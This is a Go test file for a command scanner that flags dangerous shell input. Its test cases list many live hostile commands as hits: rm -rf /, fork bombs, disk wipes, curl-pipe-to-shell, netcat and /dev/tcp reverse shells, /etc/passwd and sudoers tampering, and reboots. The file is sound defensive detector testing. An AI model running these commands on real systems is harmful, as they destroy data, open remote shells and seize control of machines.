package codescan

import (
	"reflect"
	"strings"
	"testing"
)

// floorCases maps each id to texts that must produce it and near misses
// that must not produce it.
var floorCases = []struct {
	id     string
	hits   []string
	misses []string
}{
	{
		id: floorRmRoot,
		hits: []string{
			"rm -rf /",
			"sudo rm -rf /*",
			"/bin/rm -fr ~",
			"rm -r -f $HOME",
			`rm -Rf "${HOME}/"`,
			`\rm -rfv /usr/`,
			`r''m -rf /etc`,
			"rm --recursive --force /var",
			"rm --no-preserve-root -rf /",
			"rm --no-pres /",
			"rm -rf /System",
			"rm -rf /Applications/",
			"rm -rf //",
			"rm -rf /tmp/../etc",
			"find . | xargs rm -rf /",
			"rm -r ~/",
			"rm -rf ~/*",
			"rm -rf ~/..",
			"rm -rf ~bob",
			`bash -c "rm -rf /"`,
			"rm -rf /u*",
			"rm --rec /",
			"rm -rf /\x00",
			"rm -rf /\x00 x",
			"rm -rf \"/\x00\"",
			"RM -RF /",
			"rm -rf \\\n /",
			"echo rm -rf /", // conservative: rm anywhere in a command
			"if true; then rm -rf /; fi",
			"rm / -rf",
			"rm -rf /private/var",
			"rm -rf '/'",
			"x=1 sudo -u root rm -rf /home",
		},
		misses: []string{
			"rm -rf ./build",
			"rm -rf /tmp/build",
			"rm -f /etc",
			"rm -r ~/Downloads/old",
			"grep -r rm /",
			"rm -rf $HOMEDIR",
			"rm -rf /home/user/project",
			"echo rm",
			"rmdir -p /usr",
			"rm -rf build; ls /",
		},
	},
	{
		id: floorForkBomb,
		hits: []string{
			":(){ :|:& };:",
			"bomb() { bomb | bomb & }; bomb",
			"f(){ f|f& };f",
			"function b { b|b & }; b",
			`perl -e "fork while fork"`,
			"x () { x |& x & } ; x",
			`bash -c ':(){ :|:& };:'`,
		},
		misses: []string{
			"a | a &",
			"f() { f | g & }; f",
			"cat file | grep x &",
			":|:&",
			"f() { f || f & }",
		},
	},
	{
		id: floorDiskWrite,
		hits: []string{
			"dd if=/dev/zero of=/dev/sda bs=1M",
			"dd if=x.img of=/dev/disk2",
			"mkfs.ext4 /dev/sdb1",
			"sudo wipefs -a /dev/nvme0n1",
			"cat /dev/urandom > /dev/sda",
			"shred -n 1 /dev/hda",
			"echo x > /dev/mem",
			"mkswap /dev/mapper/vg-swap",
			"parted /dev/vda mklabel gpt",
			"tee /dev/mmcblk0 < img",
			"cryptsetup luksFormat /dev/xvdb",
			"echo x >/tmp/../dev/sda",
			"cat x &> /dev/loop0",
		},
		misses: []string{
			"dd if=/dev/sda of=disk.img",
			"echo x > /dev/null",
			"shred -u secret.txt",
			"mkfs.ext4 disk.img",
			"cat /dev/sda1 | head",
			"ls /dev/sda",
			"echo hi 2>/dev/stderr",
		},
	},
	{
		id: floorFetchRun,
		hits: []string{
			"curl -fsSL https://x | sh",
			"wget -qO- x | sudo bash",
			"curl x | sudo -E bash -s -- --arg",
			"curl x | sudo -u root bash",
			"curl x | /bin/bash",
			"curl x|python3 -",
			"curl x | python3.12",
			"bash <(curl -s x)",
			"source <(wget -O- x)",
			". <(curl x)",
			`eval "$(curl x)"`,
			"eval `curl x`",
			`sh -c "$(curl -fsSL x)"`,
			"echo ZWNobyBoaQ== | base64 -d | sh",
			"base64 --decode f | bash",
			"curl x | tee y | sh",
			"(curl x) | sh",
			"{ curl x; } | bash",
			"curl x > >(sh)",
			"bash < <(curl x)",
			"curl x | xargs -0 bash -c",
			`bash -c 'curl x | sh'`,
			"fetch -o - x | sh",
			"curl x | sudo -i",
			"curl x | FOO=1 sh",
		},
		misses: []string{
			"curl -o install.sh x",
			"curl x | jq .",
			"curl x | grep bash",
			"wget x && ls",
			"cat script.sh | bash",
			"base64 f | sh",
			"echo x | sh",
			"curl x; sh y.sh",
			"diff <(curl a) <(curl b)",
			"curl x | sudo tee /usr/local/bin/y",
		},
	},
	{
		id: floorReverseShell,
		hits: []string{
			"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
			"nc -e /bin/sh 1.2.3.4 4444",
			"ncat 1.2.3.4 4444 --exec /bin/bash",
			"netcat -c bash h 1",
			"nc -e/bin/sh h 1",
			"nc -lvpe /bin/sh 4444",
			"socat TCP:1.2.3.4:4444 EXEC:/bin/sh",
			"socat tcp-connect:h:1 system:bash",
			"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
			"exec 5<>/dev/tcp/h/80",
			`echo "/dev/tcp"`, // conservative
			"nc -l 4444 | bash",
			"cat < /dev/udp/h/53",
		},
		misses: []string{
			"nc -zv host 22",
			"nc -l 8080 > file",
			"socat - TCP:host:80",
			"echo netcat",
			"ncat --ssl host 443",
			"nc -p4444 host 1",
		},
	},
	{
		id: floorSystemCredentials,
		hits: []string{
			`echo "x::0:0::/:/bin/sh" >> /etc/passwd`,
			"sudo tee -a /etc/sudoers",
			"echo x | sudo tee /etc/sudoers.d/evil",
			"rm /etc/shadow",
			"mv /tmp/p /etc/passwd",
			"sed -i s/x/y/ /etc/passwd",
			"chmod 777 /etc/shadow",
			"ln -sf /tmp/x /etc/gshadow",
			"truncate -s0 /etc/passwd",
			"cp /etc/shadow /tmp/s",
			"perl -pi -e s/x/y/ /etc/sudoers",
			"dd if=x of=/etc/passwd",
			"cat x > /private/etc/sudoers",
			"echo x >/etc//passwd",
			"echo x >| /ETC/SHADOW",
			"sed --in-place=.bak s/a/b/ /etc/sudoers",
		},
		misses: []string{
			"cat /etc/passwd",
			"grep root /etc/passwd",
			"sed -n 1p /etc/passwd",
			"ls -l /etc/shadow",
			"getent passwd",
			"echo x > /etc/hosts",
			"cat /etc/passwd > /tmp/copy",
		},
	},
	{
		id: floorKillInit,
		hits: []string{
			"kill -9 1",
			"kill -9 -1",
			"kill -KILL -1",
			"kill -s KILL 1",
			"sudo kill 1",
			"kill -- -1",
			"pkill -9 init",
			"killall systemd",
			"pkill -9 .",
			"pkill -f '^/sbin/init'",
			"pkill -xf \"/sbin/init\"",
			"pkill 'syst.md'",
			"killall -r '^sys'",
			"killall --regexp 'sys.*'",
			"killall -I SYSTEMD",
			"pkill -v node",
			"pkill -f 'systemd --system'",
			"shutdown -h now",
			"sudo reboot",
			"halt",
			"poweroff",
			"init 0",
			"telinit 6",
			"systemctl reboot",
			"systemctl --force poweroff",
			"ls; reboot",
			"true && halt",
			"(reboot)",
			"echo $(shutdown -r now)",
			"x=`reboot`",
			"/sbin/reboot",
			"nohup reboot &",
			"timeout 5 reboot",
			"launchctl reboot",
			"false || poweroff",
			"ls | reboot",
		},
		misses: []string{
			"git log --grep=reboot",
			"echo reboot",
			"kill -9 1234",
			"kill -1 1234",
			"kill %1",
			"systemctl restart nginx",
			"man shutdown",
			"pkill -f myinit",
			"pkill node",
			"pkill sh",
			"pkill -x nit",
			"killall nit",
			"killall -r '^node$'",
			"grep reboot /var/log/syslog",
			"./init.sh 0",
			"kill -l 1",
			"kill -9 12345 2>/dev/null",
		},
	},
	{
		id: floorChmodRoot,
		hits: []string{
			"chmod -R 777 /",
			"sudo chown -R user:user /usr",
			"chmod --recursive 000 /etc/",
			"chgrp -R staff /var/*",
			"chmod -Rv 755 /bin",
			"chown -fR nobody /",
			"CHMOD -R 777 /",
			"chmod -R 777 /*",
		},
		misses: []string{
			"chmod -R 755 ./dist",
			"chmod 777 /",
			"chown -R me ~/project",
			"chmod -r /etc/x",
			"chmod -R 644 /var/www/html",
			"chmod -R 777 ~",
		},
	},
}

func TestFloor(t *testing.T) {
	for _, fc := range floorCases {
		if len(fc.hits) < 4 || len(fc.misses) < 3 {
			t.Errorf("%s: need at least 4 hits and 3 near misses", fc.id)
		}
		for _, text := range fc.hits {
			if got := Floor(text); !contains(got, fc.id) {
				t.Errorf("Floor(%q) = %q; want %s", text, got, fc.id)
			}
		}
		for _, text := range fc.misses {
			if got := Floor(text); contains(got, fc.id) {
				t.Errorf("Floor(%q) = %q; want no %s", text, got, fc.id)
			}
		}
	}
}

func TestFloorResult(t *testing.T) {
	for text, want := range map[string][]string{
		"":                          nil,
		"ls -la":                    nil,
		"echo 'hello world' | wc":   nil,
		"rm -rf / ; reboot":         {floorKillInit, floorRmRoot},
		"rm -rf /; rm -rf /; halt":  {floorKillInit, floorRmRoot},
		"curl x | sh; nc -e sh h 1": {floorFetchRun, floorReverseShell},
		"if [ $( unparsable ((":     nil,
	} {
		got := Floor(text)
		if !reflect.DeepEqual(got, want) {
			t.Errorf("Floor(%q) = %#v; want %#v", text, got, want)
		}
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestFloorHelpers(t *testing.T) {
	for w, want := range map[string]bool{
		"/": true, "/*": true, "//": true, "/.": true, "/usr": true, "/usr/": true, "/usr/*": true,
		"/USR": true, "/u*": true, "/tmp": false, "/usr/local": false, "/home/x": false, "usr": false,
		"/private/etc": true, "/private/tmp": false, "": false,
	} {
		if got := isSystemPath(w); got != want {
			t.Errorf("isSystemPath(%q) = %v; want %v", w, got, want)
		}
	}
	for w, want := range map[string]bool{
		"~": true, "~/": true, "~/*": true, "~/.": true, "~/..": true, "~bob": true, "~bob/": true,
		"$HOME": true, "${HOME}/": true, "$HOME/*": true, "~/x": false, "~bob/x": false, "$HOMEDIR": false,
		"$HOME/x": false, "x": false,
	} {
		if got := isHomeTarget(w); got != want {
			t.Errorf("isHomeTarget(%q) = %v; want %v", w, got, want)
		}
	}
	for w, want := range map[string]bool{
		"-r": true, "-R": true, "-rf": true, "-fr": true, "-vrf": true, "--recursive": true, "--rec": true,
		"-f": false, "--force": false, "-": false, "--": false, "--remove": false,
	} {
		if got := isRmRecursive(w); got != want {
			t.Errorf("isRmRecursive(%q) = %v; want %v", w, got, want)
		}
	}
	if strings.Contains(floorCopy("a\\\nb'c'\"d\"\\e"), "\\") || floorCopy("a\\\nb'c'\"d\"\\e") != "abcde" {
		t.Errorf("floorCopy = %q", floorCopy("a\\\nb'c'\"d\"\\e"))
	}
}
